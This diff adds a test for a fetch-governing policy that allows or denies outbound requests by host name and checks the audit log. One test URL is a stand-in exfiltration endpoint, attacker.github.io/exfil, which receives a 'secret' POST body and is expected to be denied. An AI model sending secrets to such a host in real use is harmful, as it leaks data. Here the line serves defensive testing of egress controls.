@@ -251,3 +251,45 @@ describe("fetch redirects: every hop is decided before it is sent", () => {
     }
   });
 });
+
+describe("host names in intents", () => {
+  it("host-based policy rules never match SDK intents: rules on the exact host match, and sibling hosts are themselves", async () => {
+    const hostMock = await startMock({
+      policy: {
+        name: "github-api-only",
+        default: "deny",
+        rules: [
+          { id: "no-uploads", effect: "deny", reason: "no uploads", match: { resource_name: "uploads.github.com" } },
+          { id: "github-api", effect: "allow", reason: "the API", match: { resource_name: "api.github.com" } },
+          { id: "stripe", effect: "allow", reason: "payments", match: { resource_name: "stripe" } },
+        ],
+      },
+    });
+    try {
+      resetGovernor();
+      governor.enable({ enforceUrl: hostMock.url, apiKey: API_KEY });
+      audit = [];
+      unsubscribe = governor.onAudit((event) => audit.push(event));
+      // An aborted signal: decided first, then the real fetch gives up before any network.
+      const aborted = AbortSignal.abort();
+      for (const url of [
+        "https://uploads.github.com/repos/x/y/releases/1/assets",
+        "https://attacker.github.io/exfil",
+        "https://api.github.com/repos/x/y",
+        "https://api.stripe.com/v1/charges",
+      ]) {
+        await fetch(url, { method: "POST", body: "secret", signal: aborted }).catch(() => {});
+      }
+      expect(audit.map((e) => [e.intent.resource.name, e.decision])).toEqual([
+        ["uploads.github.com", "DENY"],
+        ["attacker.github.io", "DENY"],
+        ["api.github.com", "ALLOW"],
+        ["api.stripe.com", "ALLOW"],
+      ]);
+      const decisions = await hostMock.decisions();
+      expect(decisions.map((d) => d.reason)).toEqual(["no uploads", expect.any(String), "the API", "payments"]);
+    } finally {
+      await hostMock.stop();
+    }
+  });
+});
